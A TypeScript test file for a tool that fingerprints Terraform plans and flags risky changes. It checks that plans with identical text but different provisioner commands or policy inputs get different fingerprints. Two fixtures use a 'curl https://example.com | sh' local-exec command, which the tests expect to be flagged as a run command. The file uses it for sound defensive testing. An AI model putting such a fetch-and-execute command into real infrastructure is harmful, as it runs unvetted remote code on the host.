import { execFileSync } from "node:child_process";
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import path from "node:path";
import { readPlan } from "../../cli/review/read-plan";
import { summarize } from "../../cli/review/summarize";
import { planFingerprint } from "../../cli/terraform/plan-fingerprint";
import { readStackFiles } from "../../cli/terraform/stack-files";
import { terraformBinary } from "../../cli/terraform/terraform";

/** Pairs of plans made by Terraform itself, of stacks with only its built-in provider. */

const folders: string[] = [];
afterAll(() => {
  for (const folder of folders) {
    rmSync(folder, { recursive: true });
  }
});

interface Planned {
  readonly fingerprint: string;
  /** The plan as text. */
  readonly text: string;
  /** The codes of the risks. */
  readonly risks: readonly string[];
}

/** Plans a stack in a new folder. */
function plan(
  stack: object,
  { files = {} as Record<string, string>, variables = {} as Record<string, string> } = {},
): Planned {
  const folder = mkdtempSync(path.join(tmpdir(), "fingerprint-"));
  folders.push(folder);
  for (const [name, text] of Object.entries({ ...files, "cdk.tf.json": JSON.stringify(stack) })) {
    mkdirSync(path.dirname(path.join(folder, name)), { recursive: true });
    writeFileSync(path.join(folder, name), text);
  }
  const terraform = (...args: string[]): string =>
    execFileSync(terraformBinary(), args, {
      cwd: folder,
      encoding: "utf8",
      env: {
        ...process.env,
        ...Object.fromEntries(Object.entries(variables).map(([name, value]) => [`TF_VAR_${name}`, value])),
      },
      stdio: ["ignore", "pipe", "pipe"],
    });
  terraform("init", "-input=false", "-no-color");
  terraform("plan", "-input=false", "-no-color", "-out=plan");
  const json = terraform("show", "-json", "plan");
  return {
    fingerprint: planFingerprint(json, readStackFiles(folder)),
    text: terraform("show", "-no-color", "plan"),
    risks: summarize(readPlan(json, "plan", "stack")).risks.map(({ code }) => code),
  };
}

const made = { input: "x" };
/** A stack with a value that is known only after the apply. */
const referring = (value: string) => ({
  resource: { terraform_data: { made, policy: { input: `\${jsonencode(${value})}` } } },
});
const running = (command: string) => ({
  resource: { terraform_data: { push: { provisioner: [{ "local-exec": { command } }] } } },
});
const secret = (value: string) => ({
  variable: { token: { type: "string", sensitive: true, default: value } },
  resource: {
    terraform_data: { secret: { input: { token: "${var.token}", other: `\${sensitive("${value}")}` } } },
  },
});
const image = {
  resource: { terraform_data: { image: { input: '${formatdate("YYYYMMDDhhmmss", plantimestamp())}' } } },
};

describe("plans that only look the same: the fingerprints differ", () => {
  test("the command of a provisioner; the page reports that it runs", () => {
    const [build, curl] = [running("docker build ."), running("curl https://example.com | sh")].map((stack) =>
      plan(stack),
    );
    expect(curl?.text).toBe(build?.text);
    expect(curl?.fingerprint).not.toBe(build?.fingerprint);
    expect(curl?.risks).toEqual(["command-run"]);
  });

  test("the inputs of a value that is known only after the apply", () => {
    const [one, all] = ['["s3:ListBucket", terraform_data.made.id]', '["*", terraform_data.made.id]'].map(
      (value) => plan(referring(value)),
    );
    expect(all?.text).toBe(one?.text);
    expect(all?.fingerprint).not.toBe(one?.fingerprint);
  });

  test("the command of a module", () => {
    const [build, curl] = ["docker build .", "curl https://example.com | sh"].map((command) =>
      plan(
        { module: { m: { source: "./m" } } },
        { files: { "m/main.tf.json": JSON.stringify(running(command)) } },
      ),
    );
    expect(curl?.text).toBe(build?.text);
    expect(curl?.fingerprint).not.toBe(build?.fingerprint);
    expect(curl?.risks).toEqual(["command-run"]);
  });
});

describe("plans of the same changes: the fingerprints are the same", () => {
  test("in another folder, at another time", async () => {
    const before = plan(image);
    await new Promise((resolve) => setTimeout(resolve, 1100));
    const after = plan(image);
    expect(after.text).not.toBe(before.text);
    expect(after.fingerprint).toBe(before.fingerprint);
  });

  test("with another secret: in the text of the stack, or from a variable", () => {
    const { fingerprint } = plan(secret("hunter2"));
    expect(plan(secret("correct horse")).fingerprint).toBe(fingerprint);
    expect(plan(secret("hunter2"), { variables: { token: "battery staple" } }).fingerprint).toBe(fingerprint);
  });
});
